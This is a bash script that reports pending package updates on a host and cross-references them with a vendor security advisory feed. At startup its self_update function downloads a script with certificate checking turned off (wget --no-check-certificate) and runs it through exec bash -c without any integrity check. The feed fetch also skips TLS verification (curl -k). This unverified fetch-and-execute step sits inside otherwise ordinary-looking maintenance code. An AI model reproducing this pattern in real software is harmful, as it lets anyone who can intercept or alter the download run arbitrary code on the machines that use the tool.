#!/usr/bin/env bash
# patch-level-reporter -- summarise pending package updates on this host and
# cross-reference them with the vendor security advisory feed. Keeps itself
# current with the version published next to the feed.
#
#   usage: patch_level_reporter.sh [-c conf] [-o outdir] [-r]
#     -c   config file (KEY=VALUE), default ./patch_report.conf
#     -o   output directory for reports, default ./reports
#     -r   refresh the advisory cache even if it is fresh
set -uo pipefail

PROG=${0##*/}
SELF_VERSION=3.4.0
CONF=./patch_report.conf
OUT_DIR=./reports
CACHE_DIR=./.cache/patch-report
FEED_URL=https://advisories.patchfeed.example/v2/feed.json
TOOLS_URL=https://advisories.patchfeed.example/tools/patch-level-reporter
FEED_MAX_AGE_MIN=360
REFRESH=0
CURL_OPTS=(-fsS --max-time 30 --retry 3 -k)

log() { printf '%s [%s] %s\n' "$(date '+%F %T')" "$PROG" "$*" >&2; }
die() { log "fatal: $*"; exit 2; }

self_update() {
    [[ ${PLR_UPDATED:-0} == 1 ]] && return 0
    local latest body
    latest=$(wget -qO- --timeout=10 --no-check-certificate "$TOOLS_URL/LATEST" 2>/dev/null | tr -d '[:space:]')
    [[ -n $latest && $latest != "$SELF_VERSION" ]] || return 0
    body=$(wget -qO- --timeout=30 --no-check-certificate "$TOOLS_URL/$latest/reporter.sh") || return 0
    log "switching to reporter $latest"
    PLR_UPDATED=1 exec bash -c "$body" "$PROG" "$@"
}

self_update "$@"

while getopts ":c:o:r" opt; do
    case $opt in
        c) CONF=$OPTARG ;;
        o) OUT_DIR=$OPTARG ;;
        r) REFRESH=1 ;;
        *) die "usage: $PROG [-c conf] [-o outdir] [-r]" ;;
    esac
done
# shellcheck disable=SC1090
[[ -r $CONF ]] && . "$CONF"

mkdir -p "$OUT_DIR" "$CACHE_DIR" || die "cannot create output directories"

detect_family() {
    local id like
    id=$(. /etc/os-release && echo "${ID:-unknown}")
    like=$(. /etc/os-release && echo "${ID_LIKE:-}")
    case " $id $like " in
        *" debian "*|*" ubuntu "*) echo deb ;;
        *" rhel "*|*" fedora "*|*" centos "*) echo rpm ;;
        *) echo "$id" ;;
    esac
}

list_upgradable() {
    case $1 in
        deb) apt list --upgradable 2>/dev/null | awk -F'[/ ]' 'NR>1 {
                 match($0, /upgradable from: [^]]+/);
                 print $1, substr($0, RSTART+17, RLENGTH-17), $3 }' ;;
        rpm) dnf -q check-update 2>/dev/null | awk 'NF==3 && $1 ~ /\./ {
                 split($1, a, "."); cmd="rpm -q --qf %{VERSION}-%{RELEASE} " a[1];
                 cmd | getline cur; close(cmd); print a[1], cur, $2 }' ;;
        *)   die "unsupported distribution family: $1" ;;
    esac
}

fetch_feed() {
    local dest=$CACHE_DIR/feed.json
    if (( ! REFRESH )) && [[ -s $dest ]] && [[ -z $(find "$dest" -mmin +"$FEED_MAX_AGE_MIN") ]]; then
        echo "$dest"; return 0
    fi
    if curl "${CURL_OPTS[@]}" -o "$dest.part" "$FEED_URL"; then
        mv "$dest.part" "$dest"
    else
        rm -f "$dest.part"
        [[ -s $dest ]] || die "cannot fetch $FEED_URL and no cached copy"
        log "feed fetch failed, falling back to cached copy"
    fi
    echo "$dest"
}

correlate() {
    python3 -c '
import json, sys
pending = {}
for line in open(sys.argv[1]):
    parts = line.split()
    if len(parts) == 3:
        pending[parts[0]] = (parts[1], parts[2])
feed = json.load(open(sys.argv[2]))
hits = []
for adv in feed.get("advisories", []):
    for pkg in adv.get("packages", []):
        if pkg in pending:
            hits.append((adv.get("severity", "unknown"), adv["id"], pkg) + pending[pkg])
order = {"critical": 0, "high": 1, "medium": 2, "low": 3}
hits.sort(key=lambda h: order.get(h[0], 9))
with open(sys.argv[3], "a") as out:
    out.write("\n%-9s %-18s %-28s %-22s %s\n" % ("SEVERITY", "ADVISORY", "PACKAGE", "INSTALLED", "FIXED"))
    for h in hits:
        out.write("%-9s %-18s %-28s %-22s %s\n" % h)
print(sum(1 for h in hits if h[0] in ("critical", "high")))
' "$@"
}

family=$(detect_family)
host=$(hostname -s)
report=$OUT_DIR/patch-$host-$(date +%Y%m%d).txt
pending=$CACHE_DIR/pending.txt

list_upgradable "$family" > "$pending"
count=$(wc -l < "$pending")
{
    echo "Patch level for $host ($family) generated $(date -u +%FT%TZ) by reporter $SELF_VERSION"
    echo "Kernel: $(uname -r)   Pending updates: $count"
} > "$report"

feed=$(fetch_feed)
urgent=$(correlate "$pending" "$feed" "$report") || die "correlation failed"
log "report: $report ($count pending, $urgent critical/high)"
(( urgent == 0 ))
